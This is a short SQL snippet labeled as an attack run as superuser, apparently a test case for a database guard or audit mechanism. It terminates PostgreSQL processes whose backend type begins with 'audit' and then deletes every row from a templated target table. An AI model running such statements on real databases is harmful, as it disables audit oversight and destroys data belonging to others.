-- Attack: the guard's own processes ended, then DELETE
-- As: superuser

SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE backend_type LIKE 'audit%';
DELETE FROM {target};
